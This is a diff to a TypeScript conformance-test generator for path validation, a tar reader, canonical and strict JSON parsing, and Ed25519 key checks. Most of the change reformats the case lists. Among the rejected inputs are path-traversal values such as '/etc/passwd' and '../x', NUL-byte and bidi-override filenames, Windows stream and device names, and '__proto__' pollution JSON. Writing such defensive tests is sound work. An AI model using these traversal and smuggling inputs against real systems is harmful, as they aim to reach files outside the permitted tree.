-    ['empty segment', 'core//x.php'], ['backslash', 'core\\x.php'], ['NUL', 'core/x.php\0.txt'], ['newline', 'core/x\n.php'], ['tab', 'core/x\t.php'],
-    ['DEL', 'core/x\u007f.php'], ['C1 control', 'core/x\u0085.php'], ['bidi override', 'core/evil\u202ephp.txt'], ['non-NFC e + combining acute', 'core/cafe\u0301.php'],
-    ['non-NFC Hangul jamo', 'core/\u1100\u1161.php'], ['over 255 bytes', ('a'.repeat(99) + '/').repeat(2) + 'b'.repeat(57)], ['last segment over 100 bytes', 'core/' + 'x'.repeat(101)],
-    ['no split leaving a prefix of at most 155 bytes', 'p'.repeat(160) + '/x.php'], ['a zero-width space (HFS+ ignores it)', 'core/Dru\u200bpal.php'],
-    ['a trailing dot (Windows drops it)', 'index.php.'], ['a trailing space (Windows drops it)', 'core/lib /x.php'], ['an alternate data stream', 'index.php::$DATA'],
-    ['a Windows device name', 'core/aux.php'], ['a Windows device name, any case', 'CON'],
-  ] as const) one(path, unsafe, why);
+    ['empty', ''],
+    ['absolute', '/etc/passwd'],
+    ['trailing slash', 'core/lib/'],
+    ["'..' segment", '../x'],
+    ["'..' inside", 'core/../x'],
+    ["'.' segment", './x'],
+    ['empty segment', 'core//x.php'],
+    ['backslash', 'core\\x.php'],
+    ['NUL', 'core/x.php\0.txt'],
+    ['newline', 'core/x\n.php'],
+    ['tab', 'core/x\t.php'],
+    ['DEL', 'core/x\u007f.php'],
+    ['C1 control', 'core/x\u0085.php'],
+    ['bidi override', 'core/evil\u202ephp.txt'],
+    ['non-NFC e + combining acute', 'core/cafe\u0301.php'],
+    ['non-NFC Hangul jamo', 'core/\u1100\u1161.php'],
+    ['over 255 bytes', ('a'.repeat(99) + '/').repeat(2) + 'b'.repeat(57)],
+    ['last segment over 100 bytes', 'core/' + 'x'.repeat(101)],
+    ['no split leaving a prefix of at most 155 bytes', 'p'.repeat(160) + '/x.php'],
+    ['a zero-width space (HFS+ ignores it)', 'core/Dru\u200bpal.php'],
+    ['a trailing dot (Windows drops it)', 'index.php.'],
+    ['a trailing space (Windows drops it)', 'core/lib /x.php'],
+    ['an alternate data stream', 'index.php::$DATA'],
+    ['a Windows device name', 'core/aux.php'],
+    ['a Windows device name, any case', 'CON'],
+  ] as const)
+    one(path, unsafe, why);
   const long = `${'d'.repeat(60)}/${'e'.repeat(60)}/${'f'.repeat(40)}/${'g'.repeat(33)}.php`;
   for (const [why, path] of [
-    ['a plain file', 'index.php'], ['nested file', 'core/lib/Drupal.php'], ['a dot file', '.htaccess'], ['dots inside names', 'core/..x/a..b/.c'],
-    ['spaces and punctuation', 'sites/default/files/a b (1) #2.txt'], ['NFC unicode', 'modules/café/naïve-日本語-😀.php'], ['precomposed Hangul', 'core/\uac00.php'],
-    ['a 200-byte path needing the prefix split', long], ['exactly 100 bytes, no prefix', 'a/' + 'b'.repeat(98)], ['255 bytes: 155 prefix + / + 99 name', 'p'.repeat(155) + '/' + 'n'.repeat(99)],
-  ] as const) one(path, 'ok', why);
+    ['a plain file', 'index.php'],
+    ['nested file', 'core/lib/Drupal.php'],
+    ['a dot file', '.htaccess'],
+    ['dots inside names', 'core/..x/a..b/.c'],
+    ['spaces and punctuation', 'sites/default/files/a b (1) #2.txt'],
+    ['NFC unicode', 'modules/café/naïve-日本語-😀.php'],
+    ['precomposed Hangul', 'core/\uac00.php'],
+    ['a 200-byte path needing the prefix split', long],
+    ['exactly 100 bytes, no prefix', 'a/' + 'b'.repeat(98)],
+    ['255 bytes: 155 prefix + / + 99 name', 'p'.repeat(155) + '/' + 'n'.repeat(99)],
+  ] as const)
+    one(path, 'ok', why);
   set(['a.php', 'b.php', 'core/a.php', 'core/lib/a.php', long], 'ok', 'distinct paths');
   set(['a.php', 'a.php'], unsafe, 'the same path twice');
   set(['A.php', 'a.php'], unsafe, 'a case-fold duplicate');
@@ -299,12 +572,33 @@ function pathFamily(): Family {
 // Tar (lib/tar.ts TarReader)
 
 function tarFamily(): Family {
-  const slug = (what: string) => what.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');
-  const cases: Case[] = [{ id: 'tar-baseline', description: "one entry, 'ok.php' holding 'abc'", op: 'readTar', archive: b64(GOOD_TAR), expect: 'ok', result: [{ path: 'ok.php', mode: '0644', size: 3, sha256: createHash('sha256').update('abc').digest('hex') }] }];
-  for (const [what, bytes, code] of hostileTarCases()) cases.push({ id: `tar-${slug(what)}`, description: what, op: 'readTar', archive: b64(bytes), expect: [code] });
+  const slug = (what: string) =>
+    what
+      .toLowerCase()
+      .replace(/[^a-z0-9]+/g, '-')
+      .replace(/^-|-$/g, '');
+  const cases: Case[] = [
+    {
+      id: 'tar-baseline',
+      description: "one entry, 'ok.php' holding 'abc'",
+      op: 'readTar',
+      archive: b64(GOOD_TAR),
+      expect: 'ok',
+      result: [{ path: 'ok.php', mode: '0644', size: 3, sha256: createHash('sha256').update('abc').digest('hex') }],
+    },
+  ];
+  for (const [what, bytes, code] of hostileTarCases())
+    cases.push({ id: `tar-${slug(what)}`, description: what, op: 'readTar', archive: b64(bytes), expect: [code] });
   const three = archive(header({ path: 'a' }), header({ path: 'b' }), header({ path: 'c' }));
   cases.push({ id: 'tar-max-entries-met', description: 'three entries, maxEntries 3', op: 'readTar', archive: b64(three), maxEntries: 3, expect: 'ok' });
-  cases.push({ id: 'tar-max-entries-exceeded', description: 'three entries, maxEntries 2', op: 'readTar', archive: b64(three), maxEntries: 2, expect: ['SIZE_LIMIT'] });
+  cases.push({
+    id: 'tar-max-entries-exceeded',
+    description: 'three entries, maxEntries 2',
+    op: 'readTar',
+    archive: b64(three),
+    maxEntries: 2,
+    expect: ['SIZE_LIMIT'],
+  });
   return { family: 'tar', description: 'TarReader over a whole archive (base64): ok with the entries read, or the code it refuses the archive with', cases };
 }
 
@@ -318,36 +612,90 @@ function canonicalFamily(): Family {
     const input = readFileSync(new URL(`input/${name}`, jcs));
     const output = readFileSync(new URL(`output/${name}`, jcs));
     const base = name.replace(/\.json$/, '');
-    cases.push({ id: `canonical-rfc8785-${base}`, description: `RFC 8785 test vector ${name}: canonicalize the parsed input`, op: 'canonicalize', input: b64(input), expect: 'ok', result: b64(output) });
-    cases.push({ id: `canonical-rfc8785-${base}-output`, description: `the canonical form of ${name} parses as canonical`, op: 'parseCanonical', input: b64(output), expect: 'ok' });
-    if (!input.equals(output)) cases.push({ id: `canonical-rfc8785-${base}-input`, description: `the non-canonical input of ${name} is refused`, op: 'parseCanonical', input: b64(input), expect: ['NOT_CANONICAL'] });
+    cases.push({
+      id: `canonical-rfc8785-${base}`,
+      description: `RFC 8785 test vector ${name}: canonicalize the parsed input`,
+      op: 'canonicalize',
+      input: b64(input),
+      expect: 'ok',
+      result: b64(output),
+    });
+    cases.push({
+      id: `canonical-rfc8785-${base}-output`,
+      description: `the canonical form of ${name} parses as canonical`,
+      op: 'parseCanonical',
+      input: b64(output),
+      expect: 'ok',
+    });
+    if (!input.equals(output))
+      cases.push({
+        id: `canonical-rfc8785-${base}-input`,
+        description: `the non-canonical input of ${name} is refused`,
+        op: 'parseCanonical',
+        input: b64(input),
+        expect: ['NOT_CANONICAL'],
+      });
   }
   const parse = (text: string | Uint8Array, expect: Expect, why: string) =>
-    cases.push({ id: `canonical-parse-${cases.length + 1}`, description: why, op: 'parseCanonical', input: b64(typeof text === 'string' ? utf8(text) : text), expect });
+    cases.push({
+      id: `canonical-parse-${cases.length + 1}`,
+      description: why,
+      op: 'parseCanonical',
+      input: b64(typeof text === 'string' ? utf8(text) : text),
+      expect,
+    });
   parse('{"a":1,"b":[true,"x"]}', 'ok', 'canonical bytes');
   parse('"\\u001f"', 'ok', 'a control character escaped as RFC 8785 says');
   parse('{"__proto__":{"x":1},"a":2}', 'ok', 'a member named __proto__ is data');
   const not = ['NOT_CANONICAL'];
   for (const [text, why] of [
-    ['{"a":1,"a":2}', 'duplicate members'], ['{"a":1,"a":1}', 'duplicate members with one value'], ['{"a": 1}', 'whitespace'], ['{"a":1}\n', 'a trailing newline'],
-    [' {"a":1}', 'leading whitespace'], ['{"a":1.0}', 'another number spelling (1.0)'], ['[1E2]', 'an exponent'], ['[-0]', 'minus zero'], ['[12345678901234567890]', 'an integer beyond double precision'],
-    ['{"a":"\\u0041"}', 'a needless escape'], ['["\\/"]', 'an escaped solidus'], ['["\\u001F"]', 'an upper-case hex escape'], ['{"b":1,"a":2}', 'unsorted members'], ['{"a":{"d":1,"c":2}}', 'unsorted nested members'],
-  ] as const) parse(text, not, why);
+    ['{"a":1,"a":2}', 'duplicate members'],
+    ['{"a":1,"a":1}', 'duplicate members with one value'],
+    ['{"a": 1}', 'whitespace'],
+    ['{"a":1}\n', 'a trailing newline'],
+    [' {"a":1}', 'leading whitespace'],
+    ['{"a":1.0}', 'another number spelling (1.0)'],
+    ['[1E2]', 'an exponent'],
+    ['[-0]', 'minus zero'],
+    ['[12345678901234567890]', 'an integer beyond double precision'],
+    ['{"a":"\\u0041"}', 'a needless escape'],
+    ['["\\/"]', 'an escaped solidus'],
+    ['["\\u001F"]', 'an upper-case hex escape'],
+    ['{"b":1,"a":2}', 'unsorted members'],
+    ['{"a":{"d":1,"c":2}}', 'unsorted nested members'],
+  ] as const)
+    parse(text, not, why);
   parse(new Uint8Array([0xef, 0xbb, 0xbf, ...utf8('{"a":1}')]), ['MALFORMED'], 'a byte order mark');
   parse('{"a":1', ['MALFORMED'], 'not JSON');
   parse(new Uint8Array([0x22, 0xc3, 0x28, 0x22]), ['MALFORMED'], 'not UTF-8');
-  const strict = (text: string, expect: Expect, why: string) => cases.push({ id: `strict-json-${cases.length + 1}`, description: why, op: 'parseStrictJson', input: b64(utf8(text)), expect });
+  const strict = (text: string, expect: Expect, why: string) =>
+    cases.push({ id: `strict-json-${cases.length + 1}`, description: why, op: 'parseStrictJson', input: b64(utf8(text)), expect });
   strict('{"a":[1,{"b":null}],"c":"\\u00e9"}', 'ok', 'plain JSON (envelopes need not be canonical)');
   strict('{"__proto__":{"polluted":true}}', 'ok', 'a member named __proto__ is data');
   strict('{"payload":"fake","payload":"real"}', ['MALFORMED'], 'a duplicate member (JSON.parse would keep the last)');
   strict('{"a":[{"k":1,"k":2}]}', ['MALFORMED'], 'a duplicate member, nested');
   strict('{"\\u0061":1,"a":2}', ['MALFORMED'], 'a duplicate member spelled with an escape');
   for (const [text, why] of [
-    ['"\\x41"', 'an unknown escape'], ['"\\u12"', 'a short unicode escape'], ['"\\', 'an unterminated string'], ['{"a":1,}', 'a trailing comma in an object'], ['[1,]', 'a trailing comma in an array'],
-    ['{"a":1} x', 'garbage after the value'], ['"a\nb"', 'a raw control character in a string'], ['\ufeff{}', 'a byte order mark'], ['['.repeat(100) + ']'.repeat(100), 'nesting 100 deep'],
-    ['01', 'a leading zero'], ['NaN', 'NaN'], ["{'a':1}", 'single quotes'],
-  ] as const) strict(text, ['MALFORMED'], why);
-  return { family: 'canonical-json', description: 'canonicalize (the RFC 8785 bytes of a parsed JSON text), parseCanonical (bytes that must already be canonical: ok, NOT_CANONICAL or MALFORMED) and parseStrictJson (the envelope parser: ok or MALFORMED)', cases };
+    ['"\\x41"', 'an unknown escape'],
+    ['"\\u12"', 'a short unicode escape'],
+    ['"\\', 'an unterminated string'],
+    ['{"a":1,}', 'a trailing comma in an object'],
+    ['[1,]', 'a trailing comma in an array'],
+    ['{"a":1} x', 'garbage after the value'],
+    ['"a\nb"', 'a raw control character in a string'],
+    ['\ufeff{}', 'a byte order mark'],
+    ['['.repeat(100) + ']'.repeat(100), 'nesting 100 deep'],
+    ['01', 'a leading zero'],
+    ['NaN', 'NaN'],
+    ["{'a':1}", 'single quotes'],
+  ] as const)
+    strict(text, ['MALFORMED'], why);
+  return {
+    family: 'canonical-json',
+    description:
+      'canonicalize (the RFC 8785 bytes of a parsed JSON text), parseCanonical (bytes that must already be canonical: ok, NOT_CANONICAL or MALFORMED) and parseStrictJson (the envelope parser: ok or MALFORMED)',
+    cases,
+  };
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -355,21 +703,39 @@ function canonicalFamily(): Family {
 
 function ed25519Family(): Family {
   const cases: Case[] = [];
-  const speccheck = JSON.parse(readFileSync(new URL('../vectors/ed25519/speccheck_cases.json', import.meta.url), 'utf8')) as Array<{ message: string; pub_key: string; signature: string }>;
+  const speccheck = JSON.parse(readFileSync(new URL('../vectors/ed25519/speccheck_cases.json', import.meta.url), 'utf8')) as Array<{
+    message: string;
+    pub_key: string;
+    signature: string;
+  }>;
   speccheck.forEach((c, i) =>
-    cases.push({ id: `ed25519-speccheck-${i}`, description: `speccheck case ${i} (only case 3 verifies)`, op: 'verifyStrict', publicKey: c.pub_key, message: c.message, signature: c.signature, expect: 'ok', result: i === 3 }),
+    cases.push({
+      id: `ed25519-speccheck-${i}`,
+      description: `speccheck case ${i} (only case 3 verifies)`,
+      op: 'verifyStrict',
+      publicKey: c.pub_key,
+      message: c.message,
+      signature: c.signature,
+      expect: 'ok',
+      result: i === 3,
+    }),
   );
-  const admit = (key: Uint8Array, result: boolean, why: string) => cases.push({ id: `ed25519-key-${cases.length + 1}`, description: why, op: 'isStrongPublicKey', publicKey: hex(key), expect: 'ok', result });
+  const admit = (key: Uint8Array, result: boolean, why: string) =>
+    cases.push({ id: `ed25519-key-${cases.length + 1}`, description: why, op: 'isStrongPublicKey', publicKey: hex(key), expect: 'ok', result });
   const fromHex = (h: string) => new Uint8Array(Buffer.from(h, 'hex'));
   const PUB = fromHex('d75a980182b10ab7d54bfed3c964073a0ee172f3daa62325af021a68f707511a');
   admit(PUB, true, 'an ordinary key (RFC 8032 test 1)');
   admit(Point.BASE.toBytes(), true, 'the base point');
   for (let k = 0, p = Point.ZERO; k < 8; k++, p = p.add(T8)) admit(p.toBytes(), false, `the small-order point [${k}]T8`);
   for (const h of [
-    '0100000000000000000000000000000000000000000000000000000000000080', 'ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff',
-    'edffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f', 'edffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff',
-    'eeffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f', 'eeffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff',
-  ]) admit(fromHex(h), false, 'a non-canonical encoding of a small-order point');
+    '0100000000000000000000000000000000000000000000000000000000000080',
+    'ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff',
+    'edffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f',
+    'edffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff',
+    'eeffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f',
+    'eeffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff',
+  ])
+    admit(fromHex(h), false, 'a non-canonical encoding of a small-order point');
   admit(fromHex('f1ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f'), false, 'y = p + 4: a non-canonical spelling');
   admit(fromHex('0200000000000000000000000000000000000000000000000000000000000000'), false, 'y = 2: not a curve point');
   admit(PUB.subarray(0, 31), false, '31 bytes');
@@ -382,10 +748,30 @@ function ed25519Family(): Family {
   for (const j of [1, 2, 4]) {
     const key = mixedOrderKey(seed, j);
     const signature = signForMixedOrderKey(message, seed, j, deterministicNonce(`countersign conformance torsion ${j}`));
-    cases.push({ id: `ed25519-torsion-${j}-signature`, description: `a signature for A + [${j}]T8 made with A's secret verifies (libsodium agrees)`, op: 'verifyStrict', publicKey: hex(key), message: hex(message), signature: hex(signature), expect: 'ok', result: true });
-    cases.push({ id: `ed25519-torsion-${j}-key`, description: `the key A + [${j}]T8 is not admitted`, op: 'isStrongPublicKey', publicKey: hex(key), expect: 'ok', result: false });
+    cases.push({
+      id: `ed25519-torsion-${j}-signature`,
+      description: `a signature for A + [${j}]T8 made with A's secret verifies (libsodium agrees)`,
+      op: 'verifyStrict',
+      publicKey: hex(key),
+      message: hex(message),
+      signature: hex(signature),
+      expect: 'ok',
+      result: true,
+    });
+    cases.push({
+      id: `ed25519-torsion-${j}-key`,
+      description: `the key A + [${j}]T8 is not admitted`,
+      op: 'isStrongPublicKey',
+      publicKey: hex(key),
+      expect: 'ok',
+      result: false,
+    });
   }
-  return { family: 'ed25519', description: 'verifyStrict (hex key, message, signature → true or false) and isStrongPublicKey (hex key → admitted or not)', cases };
+  return {
+    family: 'ed25519',
+    description: 'verifyStrict (hex key, message, signature → true or false) and isStrongPublicKey (hex key → admitted or not)',
+    cases,
+  };
 }
 
 /** Every family, and the files the bundle family refers to. */
